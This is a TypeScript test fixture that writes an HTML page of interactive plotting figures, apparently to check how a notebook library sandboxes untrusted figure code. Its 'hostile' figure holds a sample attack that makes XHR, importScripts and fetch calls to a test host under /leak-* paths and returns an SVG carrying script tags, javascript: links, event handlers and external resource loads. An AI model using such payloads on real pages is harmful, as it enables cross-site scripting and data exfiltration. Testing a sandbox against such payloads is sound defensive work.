/** A page with live figures for tests: those that readers meet, and those that somebody might send them. */
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { type BuildOptions, build } from "esbuild";
import {
  choice,
  interact,
  play,
  point,
  show,
  sketch,
  slider,
  stepper,
  textLine,
  toggle,
} from "../../../lib/src/index.ts";
import { root } from "../../../tools/root.ts";

const LIVE = "application/vnd.termwise.live+json";
export const script: string = "figure.js";

interface Bundle {
  readonly live: object;
  readonly svg: string;
  readonly alt: string;
}

/** What `make` shows, as it would stand in a notebook. */
function shown(make: () => void): Bundle {
  let data: Record<string, unknown> = {};
  const slots = globalThis as unknown as { __termwise?: object };
  slots.__termwise = { display: (given: Record<string, unknown>) => (data = given), record: () => {} };
  make();
  slots.__termwise = undefined;
  return { live: data[LIVE] as object, svg: String(data["image/svg+xml"]), alt: String(data["text/plain"]) };
}

const rate = (): void =>
  show(
    interact(
      { rate: slider(0, 1, { step: 0.01, value: 0.2 }), steps: play(stepper(0, 8, { value: 2 }), { perSecond: 20 }) },
      (termwise, { rate, steps }) => {
        const path: [number, number][] = [[-3, 9]];
        for (let k = 0; k < steps; k++) path.push([path[k][0] * (1 - 2 * rate), (path[k][0] * (1 - 2 * rate)) ** 2]);
        return termwise.plot({
          x: { label: "w", from: -4, to: 4 },
          y: { label: "loss", from: 0, to: 16 },
          marks: [{ curve: (w) => w * w }, { dots: path, tone: "value", label: "steps" }],
          alt: `Rate ${rate}, step ${steps}: the loss is ${path[steps][1].toFixed(3)}.`,
        });
      },
      { alt: "Descent on a parabola" },
    ),
  );

const moved = (): void =>
  show(
    interact({ p: point({ x: [0, 10], y: [0, 10], value: [2, 5], step: 0.1, label: "probe" }) }, (termwise, { p }) =>
      termwise.plot({
        x: { label: "x", from: 0, to: 10 },
        y: { label: "y", from: 0, to: 10 },
        marks: [
          { line: [[0, 0], p], dash: true },
          { text: "here", at: p },
        ],
        alt: `The probe is at ${p[0]}, ${p[1]}.`,
      }),
    ),
  );

const drawn = (): void =>
  show(
    interact(
      {
        sheet: sketch([4, 4], { label: "sheet" }),
        kind: choice(["sum", "mean"]),
        signed: toggle(false, { label: "negative" }),
      },
      (termwise, { sheet, kind, signed }) => {
        const sum =
          termwise
            .tensor([...sheet])
            .sum()
            .item() / (kind === "mean" ? 16 : 1);
        return termwise.matrix([[signed ? -sum : sum]], {
          digits: 3,
          alt: `The ${kind} of the ink is ${(signed ? -sum : sum).toFixed(3)}.`,
        });
      },
    ),
  );

const written = (): void =>
  show(
    interact(
      { line: textLine("1 + 1", { label: "sum", examples: { "a product": "x = 6; x * 7" } }) },
      (termwise, { line }) => {
        const { data } = termwise.expression(line).output;
        return termwise.plot({ marks: [{ line: [0, data] }], alt: `The result is ${data}.` });
      },
    ),
  );

/** A figure that a notebook from anywhere could hold; `from` is where it would like to send things. */
const foreign = (source: string): Bundle => ({
  ...shown(rate),
  live: {
    controls: [{ key: "n", kind: "slider", min: 0, max: 1, step: 0.1, log: false, value: 0 }],
    source,
    narrow: (shown(rate).live as { narrow?: object }).narrow,
  },
});

const line = '(termwise, { n }) => termwise.plot({ marks: [{ line: [0, n] }], alt: "A line up to " + n + "." })';

const hostile = (from: string): string => `(termwise, { n }) => {
  const tried = [];
  const attempt = (name, act) => { try { act(); tried.push(name + " worked"); } catch (error) { tried.push(name + " refused"); } };
  attempt("request", () => { const r = new XMLHttpRequest(); r.open("GET", "${from}/leak-xhr", false); r.send(); });
  attempt("script", () => importScripts("${from}/leak-script.js"));
  fetch("${from}/leak-fetch").catch(() => {});
  tried.push("origin " + self.origin, typeof document, typeof localStorage);
  return { kind: "svg", summary: "", alt: "Tried: " + tried.join(", ") + ".", svg: \`<svg viewBox="0 0 90 20"><script>globalThis.hacked = 1</script><style>main { display: none }</style><image href="${from}/leak-image"/><foreignObject><iframe src="${from}/leak-frame"/></foreignObject><a href="javascript:globalThis.hacked = 2"><text>press</text></a><use href="${from}/leak-use#x"/><rect id="kept" width="9" height="9" onload="globalThis.hacked = 3" style="background: url(${from}/leak-style)" fill="url(${from}/leak-fill)" tabindex="0" class="button"/><animate onbegin="globalThis.hacked = 4" attributeName="x"/></svg>\` };
}`;

/** As a page of the book has it: what the frames need is a script of its own. */
function apart({ live, ...rest }: Bundle, folder: string): Bundle {
  const { source, narrow, ...inline } = live as { source: string; narrow?: object };
  const later = "figures/0123456789ab";
  const body = JSON.stringify({ source, narrow });
  mkdirSync(join(folder, "figures"), { recursive: true });
  writeFileSync(
    join(folder, `${later}.js`),
    `(globalThis.termwiseTexts??={})[${JSON.stringify(later)}]=${JSON.stringify(body)};`,
  );
  return { ...rest, live: { ...inline, later } };
}

/** Writes page and scripts into a folder. Returns the names of the figures, in order. */
export async function trialPage(folder: string, from: string): Promise<string[]> {
  mkdirSync(folder, { recursive: true });
  const assets = join(root, "book/assets");
  const common: BuildOptions = {
    bundle: true,
    minify: true,
    outdir: folder,
    external: ["fonts/*"],
    logLevel: "error",
    target: "es2022",
  };
  await build({ ...common, entryPoints: [join(assets, "css/book.css")] });
  const css = join(folder, "book.css"); // the page has no fonts beside it
  writeFileSync(css, readFileSync(css, "utf8").replace(/@font-face\{[^}]*\}/g, ""));
  await build({ ...common, entryPoints: [join(assets, "js/figure/figure.ts")], format: "iife" });
  const library = readFileSync(join(root, "lib/dist/termwise.iife.js"), "utf8");
  writeFileSync(
    join(folder, "termwise-library.js"),
    `(globalThis.termwiseTexts??={})["termwise-library"]=${JSON.stringify(library)};`,
  );
  const figures: Record<string, Bundle> = {
    rate: shown(rate),
    point: shown(moved),
    sketch: shown(drawn),
    text: shown(written),
    hostile: foreign(hostile(from)),
    endless: foreign("(termwise, { n }) => { for (;;); }"),
    throws: foreign(
      `(termwise, { n }) => { if (n > 0.5) throw new Error("too far"); return (${line})(termwise, { n }); }`,
    ),
    nothing: foreign("(termwise, { n }) => 42"),
    broken: foreign("(termwise, { n }) => { ("),
    apart: apart(foreign(line), folder),
    elsewhere: { ...shown(rate), live: { ...foreign("").live, source: undefined, later: `${from}/leak-later` } },
  };
  const html = Object.entries(figures).map(([name, { live, svg, alt }]) => {
    const picture = svg
      .replace("<svg", `<svg role="img" aria-label="${alt.replaceAll('"', "&quot;")}"`)
      .replace(/(\bid="|url\(#)/g, `$1${name}-`);
    return `<section id="${name}"><h2>${name}</h2><div data-live="figure"><div class="picture">${picture}</div><script type="application/json">${JSON.stringify(live).replaceAll("<", "\\u003c")}</script></div></section>`;
  });
  const start = `figures = Object.fromEntries([...document.querySelectorAll("[data-live]")].map((place) => [place.parentElement.id, termwiseDraw.figure(place, JSON.parse(place.querySelector("script").textContent))]))`;
  writeFileSync(
    join(folder, "index.html"),
    `<!doctype html><html lang="en"><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>Live figures</title><link rel="icon" href="data:,"><link rel="stylesheet" href="book.css"><body><main style="max-width: 44rem; margin: auto; padding: 1rem"><h1>Live figures</h1>${html.join("\n")}</main><script src="${script}"></script><script>${start}</script></html>`,
  );
  return Object.keys(figures);
}
